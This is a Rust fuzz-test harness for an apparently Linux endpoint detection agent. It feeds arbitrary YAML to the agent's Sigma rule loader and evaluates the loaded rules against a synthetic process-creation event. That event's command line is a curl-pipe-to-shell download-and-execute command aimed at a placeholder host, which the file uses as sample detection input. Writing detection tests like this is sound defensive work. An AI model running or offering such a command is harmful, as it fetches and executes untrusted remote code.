//! Sigma rule files: loading, routing and compiling arbitrary YAML never panics, and a rule
//! that loads is evaluated against an event without panicking.
#![no_main]
use std::path::Path;

use aurora_agent::detect::logsource::LogsourceMap;
use aurora_agent::detect::rules::{load_text, AlertLevel, LoadOptions, LoadedRule};
use aurora_agent::detect::ruleset::RuleSet;
use aurora_agent::event::{names as f, Event, EventKind};
use libfuzzer_sys::fuzz_target;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let map = LogsourceMap::builtin();
    let mut entries = Vec::new();
    load_text(
        Path::new("fuzz.yml"),
        text,
        &map,
        &LoadOptions {
            min_level: AlertLevel::Informational,
            collected: None,
            threads: 1,
            defer_compile: false,
            audit_from_sensors: true,
        },
        &mut entries,
    );
    let rules = entries.into_iter().filter_map(|e| match e.rule {
        Some(LoadedRule::Compiled(c)) => Some(*c),
        _ => None,
    });
    let mut set = RuleSet::build(rules.enumerate().collect());
    let mut ev = Event::new(EventKind::ProcessCreation);
    ev.push_str(f::IMAGE, "/usr/bin/bash");
    ev.push_str(f::COMMAND_LINE, "bash -c 'curl http://x | sh'");
    ev.push_int(f::PROCESS_ID, 7);
    let mut hits = Vec::new();
    set.evaluate(&ev, &mut hits);
    assert_eq!(hits, set.evaluate_all(&ev));
});
